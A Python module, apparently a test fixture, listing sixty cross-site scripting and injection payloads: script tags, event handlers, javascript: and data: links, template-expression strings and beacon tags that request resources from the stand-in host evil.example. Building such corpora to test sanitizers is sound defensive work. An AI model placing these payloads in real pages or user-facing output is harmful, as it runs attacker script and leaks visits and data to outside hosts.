"""Sixty texts that would do something in a page that obeyed them; each asks evil.example for something or opens a dialogue."""

_URL = "http://evil.example/p"
_SCRIPTS = (
    "<script>alert(1)</script>", "<SCRIPT SRC=http://evil.example/p.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script/x>", "<svg><script>alert(1)</script></svg>", "<math><mtext><script>alert(1)</script></mtext></math>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>", "<template><script>alert(1)</script></template>",
    "</p></div><script>alert(1)</script>", "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>", "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<script\n>alert(1)</script\n>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
)  # fmt: skip
_HANDLERS = (
    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    
    "<marquee onstart=alert(1)>", "<a href=# onmouseover=alert(1)>x</a>", "\" onmouseover=alert(1) x=\"", "' autofocus onfocus=alert(1) '",
    "<img/src=x/onerror=alert(1)>", "<iframe onload=alert(1)></iframe>", "<style onload=alert(1)></style>",
    "<audio src=x onerror=alert(1)>",
    "<button name=act value='forget:x' autofocus onfocus=alert(1)>x</button>",
)  # fmt: skip
_BEACONS = (
    f"<img src={_URL}.png>", f"![x]({_URL}.png)", f"![x][r]\n\n[r]: {_URL}.png", f"<link rel=stylesheet href={_URL}.css>",
    f"<iframe src={_URL}></iframe>", f"<object data={_URL}></object>", f"<embed src={_URL}>", f"<video src={_URL} autoplay></video>",
    f"<style>@import '{_URL}.css';</style>", f"<p style='background:url({_URL}.png)'>x</p>",
    f"<meta http-equiv=refresh content='0;url={_URL}'>",
    f"<form action={_URL}><input type=submit></form>", f"<base href={_URL}/>", f"<svg><image href={_URL}.png /></svg>",
    f"<picture><source srcset={_URL}.png><img></picture>", f"<track src={_URL}>",
)  # fmt: skip
_LINKS = (
    "[x](javascript:alert(1))", "<a href=javascript:alert(1)>x</a>", "<a href='java\tscript:alert(1)'>x</a>",
    "[x](data:text/html,<script>alert(1)</script>)",
    f"[x]({_URL})", f"<{_URL}>", "[x](vbscript:msgbox(1))", "<a href=&#106;avascript:alert(1)>x</a>",
)  # fmt: skip
_TEMPLATES = (
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "$$\\href{javascript:alert(1)}{x}$$",
    "`<img src=x onerror=alert(1)>`",
)
PAYLOADS = (*_SCRIPTS, *_HANDLERS, *_BEACONS, *_LINKS, *_TEMPLATES)
